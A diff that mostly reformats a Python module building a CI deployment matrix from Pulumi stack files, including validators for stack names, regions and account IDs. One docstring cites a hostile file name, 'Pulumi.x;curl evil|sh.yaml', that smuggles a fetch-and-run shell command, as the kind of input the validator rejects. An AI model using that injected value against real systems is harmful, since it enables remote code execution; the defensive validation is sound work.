@@ -24,7 +24,6 @@ from infra.core.names import DNS_LABEL as STACK_NAME
 from infra.core.names import ENVIRONMENTS as ENVIRONMENT_ORDER
 from infra.core.names import RUNNER_PURPOSES, role_name, runner_project
 
-
 # The repository's OIDC subject template (PUT /repos/OWNER/REPO/actions/oidc/customization/sub):
 # the default `repo` and `context` (pull_request, environment:ENV, ref:REF), then the workflow file
 # (github/docs:content/actions/reference/security/oidc.md, "Customizing the subject claims").
@@ -49,19 +48,30 @@ def _entry(path: Path) -> dict[str, Any]:
         raise BrokenStack(f"stacks/{path.name}:{exc.line}: {exc.message}") from None
     config = source.config
     delivery = config.get("higgsfield:delivery") if isinstance(config.get("higgsfield:delivery"), dict) else {}
-    entry: dict[str, Any] = {"stack": stack, "region": config.get("aws:region"), "environment": config.get("higgsfield:environment")}
+    entry: dict[str, Any] = {
+        "stack": stack,
+        "region": config.get("aws:region"),
+        "environment": config.get("higgsfield:environment"),
+    }
     if delivery:
         account = delivery.get("accountId")
         runner: dict[str, Any] = delivery["runner"] if isinstance(delivery.get("runner"), dict) else {}
-        entry.update({
-            "deployEnvironment": delivery.get("deployEnvironment") or stack,
-            "previewRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'preview')}",
-            "deployRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'deploy')}",
-            "imageRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'image')}",
-            "account": str(account) if isinstance(account, (str, int)) and not isinstance(account, bool) else account,
-            "backend": f"s3://{_text(delivery.get('stateBucket'))}?region={entry['region']}",
-            **{f"{p}Runner": runner_project(stack, p) if runner.get("enabled", True) is not False else "" for p in RUNNER_PURPOSES},
-        })
+        entry.update(
+            {
+                "deployEnvironment": delivery.get("deployEnvironment") or stack,
+                "previewRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'preview')}",
+                "deployRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'deploy')}",
+                "imageRole": f"arn:aws:iam::{account}:role/{role_name(stack, 'image')}",
+                "account": str(account)
+                if isinstance(account, (str, int)) and not isinstance(account, bool)
+                else account,
+                "backend": f"s3://{_text(delivery.get('stateBucket'))}?region={entry['region']}",
+                **{
+                    f"{p}Runner": runner_project(stack, p) if runner.get("enabled", True) is not False else ""
+                    for p in RUNNER_PURPOSES
+                },
+            }
+        )
     return entry
 
 
@@ -71,25 +81,35 @@ def checked_stack_name(path: Path) -> str:
     file named `Pulumi.x;curl evil|sh.yaml` must never become a stack."""
     from infra.offline.option_files import OptionFileError
 
-    stack = path.name[len("Pulumi."):-len(".yaml")]
+    stack = path.name[len("Pulumi.") : -len(".yaml")]
     if not re.fullmatch(STACK_NAME, stack):
-        raise OptionFileError(f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, "
-                              "'-'): rename the file")
+        raise OptionFileError(
+            f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, "
+            "'-'): rename the file"
+        )
     return stack
 
 
 def _checked(entry: dict[str, Any], path: Path) -> dict[str, Any]:
     """What the matrix carries from a stack file into CI, refused unless it has the shape the
     config model would give it (the model itself runs in `plan`/`check`)."""
-    for key, pattern in (("region", r"[a-z]{2}(-[a-z]+)+-[0-9]"), ("environment", "|".join(ENVIRONMENT_ORDER)), ("account", r"[0-9]{12}"),
-                         ("deployEnvironment", r"[A-Za-z0-9._-]{1,255}")):
+    for key, pattern in (
+        ("region", r"[a-z]{2}(-[a-z]+)+-[0-9]"),
+        ("environment", "|".join(ENVIRONMENT_ORDER)),
+        ("account", r"[0-9]{12}"),
+        ("deployEnvironment", r"[A-Za-z0-9._-]{1,255}"),
+    ):
         if key in entry and not (isinstance(entry[key], str) and re.fullmatch(pattern, entry[key], re.ASCII)):
-            raise BrokenStack(f"stacks/{path.name}: {key} {str(entry[key])[:60]!r} is not one CI can use; "
-                              f"run `higgsfield plan {entry['stack']}` for the stack's problems")
+            raise BrokenStack(
+                f"stacks/{path.name}: {key} {str(entry[key])[:60]!r} is not one CI can use; "
+                f"run `higgsfield plan {entry['stack']}` for the stack's problems"
+            )
     return entry
 
 
-def stack_matrix(root: Path, delivered_only: bool = False, broken: list[str] | None = None, skip_bad_names: bool = False) -> dict[str, list[dict[str, Any]]]:
+def stack_matrix(
+    root: Path, delivered_only: bool = False, broken: list[str] | None = None, skip_bad_names: bool = False
+) -> dict[str, list[dict[str, Any]]]:
     """`{"include": [...]}`, one entry per stack file in deploy order (environment, then name);
     with `delivered_only`, only stacks that set higgsfield:delivery (CI previews and deploys those).
     A stack file that cannot give an entry is `{"stack": NAME, "broken": "file:line: message"}`
@@ -121,8 +141,12 @@ def stack_matrix(root: Path, delivered_only: bool = False, broken: list[str] | N
 
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="higgsfield stacks", description=__doc__.splitlines()[0])
-    parser.add_argument("--delivered", action="store_true", help="only stacks with higgsfield:delivery (previewed and deployed by CI)")
-    parser.add_argument("--root", type=Path, default=None, help="the project (default: the folder holding Pulumi.yaml, from here up)")
+    parser.add_argument(
+        "--delivered", action="store_true", help="only stacks with higgsfield:delivery (previewed and deployed by CI)"
+    )
+    parser.add_argument(
+        "--root", type=Path, default=None, help="the project (default: the folder holding Pulumi.yaml, from here up)"
+    )
     args = parser.parse_args(argv)
     from infra.core.project import project_root
     from infra.offline.option_files import OptionFileError
